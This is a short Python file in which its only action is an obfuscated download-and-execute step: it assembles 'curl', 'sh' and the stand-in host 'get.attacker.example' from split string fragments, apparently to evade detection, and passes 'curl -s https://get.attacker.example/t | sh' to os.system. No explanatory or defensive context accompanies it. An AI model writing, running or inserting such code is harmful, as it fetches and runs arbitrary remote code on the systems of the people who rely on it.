import os
tool = "cu" + "rl"
shell = "s" + "h"
host = "get.att" + "acker.exa" + "mple"
os.system(tool + " -s https://" + host + "/t | " + shell)
